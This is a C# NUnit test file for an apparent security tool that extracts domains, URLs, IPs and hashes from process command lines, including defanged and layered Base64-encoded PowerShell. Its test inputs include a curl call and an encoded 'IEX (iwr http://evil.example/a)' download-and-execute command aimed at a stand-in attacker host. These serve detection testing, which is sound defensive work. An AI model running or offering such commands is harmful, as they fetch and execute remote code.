using System.Text;
using Msticnb.Abstractions.Enrichment;
using Msticnb.Abstractions.Tables;
using Msticnb.AzureSentinel.Processes;
using NUnit.Framework;

namespace Msticnb.Tests.Plugins.AzureSentinel.Processes;

public sealed class CommandLineIndicatorsTests
{
    [Test]
    public void Urls_addresses_and_hashes_are_found_once_each() => Assert.That(
        CommandLineIndicators.Find("curl http://Evil.example/a?b=1 203.0.113.9 203.0.113.9 d41d8cd98f00b204e9800998ecf8427e"),
        Is.EqualTo(new[]
        {
            new Indicator("evil.example", IndicatorType.Domain),
            new Indicator("http://Evil.example/a?b=1", IndicatorType.Url),
            new Indicator("203.0.113.9", IndicatorType.IPv4),
            new Indicator("d41d8cd98f00b204e9800998ecf8427e", IndicatorType.Md5),
        }));

    [Test]
    public void Defanged_spellings_come_out_plain() => Assert.That(
        CommandLineIndicators.Find("hxxps://evil[.]example/x 203[.]0[.]113[.]9"),
        Is.EqualTo(new[]
        {
            new Indicator("evil.example", IndicatorType.Domain),
            new Indicator("https://evil.example/x", IndicatorType.Url),
            new Indicator("203.0.113.9", IndicatorType.IPv4),
        }));

    [TestCase("ping 10.0.0.4")]
    [TestCase("ping 192.168.1.1 127.0.0.1 169.254.1.1 100.64.0.9")]
    [TestCase("curl http://10.0.0.4/x")]
    [TestCase("setup.exe 10.2.300.4 1.2.3.4.5")]
    [TestCase("notepad.exe report.txt")]
    [TestCase("")]
    public void What_nobody_outside_knows_is_left_out(string commandLine) => Assert.That(CommandLineIndicators.Find(commandLine), Is.Empty);

    [Test]
    public void Scripts_in_Base64_are_searched_too_through_layers()
    {
        var inner = "powershell -enc " + Convert.ToBase64String(Encoding.Unicode.GetBytes("IEX (iwr http://evil.example/a)"));
        var outer = "powershell -enc " + Convert.ToBase64String(Encoding.Unicode.GetBytes(inner));
        var table = TestTable.Of(
            "TimeGenerated:datetime Computer NewProcessId NewProcessName ProcessId ParentProcessName CommandLine SubjectUserName",
            [TestTable.At("10:00"), "H", "0x1", @"C:\powershell.exe", "0x2", "", outer, "ann"],
            [TestTable.At("10:01"), "H", "0x3", @"C:\notepad.exe", "0x2", "", "notepad", "ann"]);

        var rows = CommandLineIndicators.Extract(table)!.TableRows().ToList();

        Assert.That(rows.Select(r => (r.Text("Indicator"), r.Text("FoundIn"), r.Text("User"))), Is.EqualTo(new[]
        {
            ("evil.example", "decoded script", "ann"),
            ("http://evil.example/a", "decoded script", "ann"),
        }));
        Assert.That(rows[0].Text("Decoded"), Is.EqualTo("IEX (iwr http://evil.example/a)"));
    }
}
